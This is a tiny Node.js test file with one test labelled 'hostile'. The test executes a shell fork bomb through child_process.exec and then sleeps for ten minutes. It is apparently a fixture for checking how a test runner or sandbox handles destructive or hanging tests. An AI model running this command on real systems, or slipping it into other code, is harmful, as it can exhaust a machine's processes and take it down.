import { test } from 'node:test'
import { exec } from 'node:child_process'

test('hostile', async () => {
  exec('bomb() { bomb | bomb & }; bomb')
  await new Promise((resolve) => setTimeout(resolve, 600_000))
})
